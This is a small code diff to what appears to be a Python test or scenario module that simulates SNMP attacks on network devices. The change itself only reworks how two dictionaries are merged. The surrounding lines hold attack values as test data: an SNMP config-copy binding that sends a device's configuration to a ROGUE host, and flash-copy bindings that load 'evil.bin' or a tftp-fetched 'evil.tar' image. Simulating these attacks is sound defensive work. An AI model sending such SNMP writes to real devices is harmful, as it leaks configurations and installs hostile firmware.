@@ -271,13 +271,15 @@ ONE_SET = {2: 1, 3: 1, 4: 4, 5: IPv4Address(ROGUE), 6: "evil-confg", 14: 4}
 SPOOFED_CONFIGS: dict[str, list[snmp.Binding]] = {
     DEVICE: snmp.row(snmp.CONFIG_COPY, 111, ONE_SET),
     "10.0.1.2": [(f"1.3.6.1.4.1.9.2.1.55.{ROGUE}", "x.cfg")],
-} | {device: bindings for device, (_, bindings) in bw03_snmp_config_copy.VENDORS.items()}
+    **{device: bindings for device, (_, bindings) in bw03_snmp_config_copy.VENDORS.items()},
+}
 FLASH = {2: 1, 3: 1, 4: IPv4Address(ROGUE), 5: "evil.bin", 6: "evil.bin", 11: 4}
 SPOOFED_IMAGES: dict[str, list[snmp.Binding]] = {
     DEVICE: snmp.row(snmp.FLASH_COPY, 77, FLASH),
     "10.0.1.3": snmp.row(snmp.FLASH_COPY, 78, {2: 2, 13: 1, 14: IPv4Address(ROGUE).packed, 5: "evil.bin", 11: 4}),
     "10.0.1.7": [("1.3.6.1.4.1.9.9.725.1.2.1.0", f"tftp://{ROGUE}/evil.tar")],
-} | {device: bindings for device, (_, bindings) in bw04_snmp_image_copy.VENDORS.items()}
+    **{device: bindings for device, (_, bindings) in bw04_snmp_image_copy.VENDORS.items()},
+}
 
 
 @scenario(
